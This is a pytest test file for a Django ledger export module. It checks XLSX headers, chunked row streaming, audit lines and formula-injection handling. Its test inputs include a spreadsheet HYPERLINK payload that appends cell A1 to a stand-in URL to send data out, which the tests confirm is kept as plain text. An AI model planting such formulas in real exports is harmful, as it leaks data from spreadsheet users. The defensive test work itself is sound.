"""The shared ledger export helpers (chaindesk.core.export): every row exported (no cap since issue 13, the
records streamed from the cursor in chunks), the filter conditions, the audit line written after the file, the
download headers and the query budget.

The requests come from the fixed personas (chaindesk/testkit/personas.py): `p_auditor` and 测试甲链's team
member `p_member`."""

import datetime as dt
import io
from decimal import Decimal
from typing import Any
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pytest
from django.db.models import QuerySet, Value
from django.test import RequestFactory
from openpyxl import Workbook, load_workbook

from chaindesk.accounts.models import User
from chaindesk.core import audit, export
from chaindesk.core.export import (
    XLSX_CONTENT_TYPE,
    Column,
    filtered_ledger,
    ledger_cell,
    ledger_response,
    sheet_title,
    write_ledger,
)
from chaindesk.core.models import AuditAction, AuditLog

pytestmark = pytest.mark.django_db

MARK = "导出助手测试"
COLUMNS = [Column("编号", 8), Column("说明", 30, wrap=True)]
NOW = dt.datetime(2026, 11, 24, 9, 30, 5, tzinfo=ZoneInfo("Asia/Shanghai"))


@pytest.fixture
def request_as(personas):
    """A GET request by the persona named by its key (`auditor`, `member` …)."""

    def make(key: str, query: str = "") -> Any:
        request = RequestFactory().get(f"/any/export/{query}")
        request.user = personas.user(key)
        return request

    return make


@pytest.fixture
def marked() -> QuerySet[AuditLog]:
    for n in range(3):
        audit.record(action=AuditAction.UPDATE, message=f"{MARK} {n}")
    return AuditLog.objects.filter(message__startswith=MARK).order_by("pk")


def _rows(records: Any) -> Any:
    return ([entry.pk, entry.message] for entry in records)


def _sheet(response: Any) -> list[tuple[Any, ...]]:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return list(workbook.active.iter_rows(values_only=True))


def _export(request: Any, qs: QuerySet[AuditLog], **extra: Any) -> Any:
    options: dict[str, Any] = {"rows": _rows, "columns": COLUMNS, "title": "测试台账", "name": "测试台账"}
    options.update(now=NOW)
    return filtered_ledger(request, queryset=qs, **(options | extra))


def _export_line(user: User) -> AuditLog:
    return AuditLog.objects.get(action=AuditAction.EXPORT, actor=user)


def test_the_download_is_an_xlsx_attachment_named_in_chinese(request_as, marked):
    response = _export(request_as("auditor"), marked)
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    filename = quote("测试台账_20261124_093005.xlsx")
    assert response["Content-Disposition"] == f"attachment; filename*=UTF-8''{filename}"


def test_every_row_is_written_without_a_warning(request_as, marked):
    rows = _sheet(_export(request_as("auditor"), marked))
    assert rows[0][0] == "测试台账"
    assert "共 3 条" in rows[1][0]
    assert rows[2][0] == "筛选条件：无"
    assert rows[3][:2] == ("编号", "说明")  # the header follows the notes: no warning line
    assert [row[1] for row in rows[4:]] == [f"{MARK} {n}" for n in range(3)]


def test_more_rows_than_one_chunk_are_all_written_and_nothing_says_cut(request_as, marked, monkeypatch):
    # The old rule cut the file at 50,000 rows with a red line; now every row is written, a chunk at a time.
    monkeypatch.setattr(export, "EXPORT_CHUNK_SIZE", 2)
    rows = _sheet(_export(request_as("auditor"), marked))
    assert "共 3 条" in rows[1][0]
    assert rows[3][:2] == ("编号", "说明")  # no warning line between the notes and the header
    assert [row[1] for row in rows[4:]] == [f"{MARK} {n}" for n in range(3)]


def test_the_rows_come_from_the_cursor_not_from_a_filled_queryset(request_as, marked):
    received: list[Any] = []

    def rows(records: Any) -> Any:
        received.append(records)
        return _rows(records)

    _export(request_as("auditor"), marked, rows=rows)
    assert not isinstance(received[0], QuerySet)  # an iterator over the cursor: nothing cached
    assert marked._result_cache is None


def test_the_audit_line_states_the_counts_and_the_filters_without_the_page(personas, request_as, marked):
    first_two = lambda records: ([e.pk, e.message] for e in records if not e.message.endswith(" 2"))  # noqa: E731
    _export(request_as("auditor"), marked, rows=first_two)
    assert _export_line(personas.auditor).message == "测试台账导出 2 条（共 3 条）；筛选条件：无"  # rows written
    response = _export(request_as("member", "?q=abc&page=4&stage=signed"), marked)
    assert _export_line(personas.member).message == "测试台账导出 3 条（共 3 条）；筛选条件：q=abc&stage=signed"
    assert _sheet(response)[2][0] == "筛选条件：q=abc&stage=signed"


def test_the_file_name_and_audit_line_use_the_chinese_name_the_sheet_the_title(personas, request_as, marked):
    response = _export(request_as("auditor"), marked, title="Test ledger")
    assert quote("测试台账_") in response["Content-Disposition"]
    assert _sheet(response)[0][0] == "Test ledger"
    assert _export_line(personas.auditor).message.startswith("测试台账导出 3 条")


def test_prepare_runs_after_the_count_and_the_queries_do_not_grow(request_as, marked, django_assert_num_queries):
    request = request_as("auditor")
    prepared = lambda qs: qs.annotate(extra=Value("已补充"))  # noqa: E731
    with_extra = lambda qs: ([entry.pk, entry.extra] for entry in qs)  # noqa: E731
    with django_assert_num_queries(3):  # count, the rows, the audit line
        response = _export(request, marked, prepare=prepared, rows=with_extra)
    assert [row[1] for row in _sheet(response)[4:]] == ["已补充"] * 3


def test_ledger_response_audits_after_the_file_and_names_the_object(personas, request_as, marked):
    region = personas.ours.region
    seen: list[int] = []

    def rows() -> Any:
        seen.append(AuditLog.objects.filter(action=AuditAction.EXPORT).count())
        yield [1, "一行"]

    response = ledger_response(
        request_as("member"),
        filename="补链目标清单.xlsx",
        title="补链目标清单",
        notes=["说明一行"],
        columns=COLUMNS,
        rows=rows(),
        audit_message="补链目标清单 (1)",
        audit_object=region,
    )
    assert seen == [0]  # no export line yet while the file was written
    assert response["Content-Disposition"] == f"attachment; filename*=UTF-8''{quote('补链目标清单.xlsx')}"
    assert _sheet(response)[1][0] == "说明一行"
    line = _export_line(personas.member)
    assert line.message == "补链目标清单 (1)"
    assert (line.content_type.model, line.object_id) == ("region", str(region.pk))


# --- formula injection: text is always written as text -----------------------------------------------------

FORMULA_LIKE = [
    '=HYPERLINK("http://x?"&A1,"点击查看")',
    "=1+1",
    "+86 523 8688 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "#N/A",
    "=",
]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_ledger_cell_keeps_formula_like_text_as_exact_text(text):
    ws = Workbook(write_only=True).create_sheet()
    cell = ledger_cell(ws, text)
    assert (cell.data_type, cell.value) == ("s", text)  # no apostrophe, nothing added or lost


def test_ledger_cell_keeps_numbers_and_dates_and_replaces_characters_xlsx_cannot_hold():
    ws = Workbook(write_only=True).create_sheet()
    assert (ledger_cell(ws, -5).data_type, ledger_cell(ws, -5).value) == ("n", -5)
    assert ledger_cell(ws, Decimal("-1.50")).data_type == "n"
    assert ledger_cell(ws, dt.date(2026, 11, 24)).data_type == "d"
    assert ledger_cell(ws, "=a\x01b").value == "=a\ufffdb"  # would otherwise fail the whole export


def test_sheet_title_is_valid_whatever_the_record_names_hold():
    title = sheet_title(FORMULA_LIKE[0] + "产业链补链目标清单")
    assert title == '=HYPERLINK("http___x_"&A1,"点击查看'  # 31 characters, no / ? :
    assert sheet_title("'[a]*b:c'") == "_a__b_c"
    assert sheet_title("") == "Sheet"


def test_write_ledger_writes_no_formula_cell_anywhere():
    rows: list[list[Any]] = [
        [FORMULA_LIKE[0], FORMULA_LIKE[1], -5],
        ["\r=1+1", "#N/A", Decimal("-2.5")],
        ["-", None, 0],
    ]
    response = write_ledger(
        filename="测试.xlsx",
        title="=1+1台账",
        notes=["@备注"],
        columns=[Column("=列"), Column("+说明", wrap=True), Column("-数值")],
        rows=rows,
        warning="-警告",
    )
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    assert [c.value for c in sheet["A"][:4]] == ["=1+1台账", "@备注", "-警告", "=列"]
    assert [c.value for c in sheet[5]] == [FORMULA_LIKE[0], "=1+1", -5]
    # a CR stays text; whether it reads back as CR or LF depends on the XML parser openpyxl finds (lxml keeps it)
    assert sheet[6][0].data_type == "s" and sheet[6][0].value in ("\r=1+1", "\n=1+1")
    assert [c.value for c in sheet[6]][1:] == ["#N/A", -2.5]
    assert [(c.value, c.data_type) for c in sheet[7]] == [("-", "s"), (None, "n"), (0, "n")]
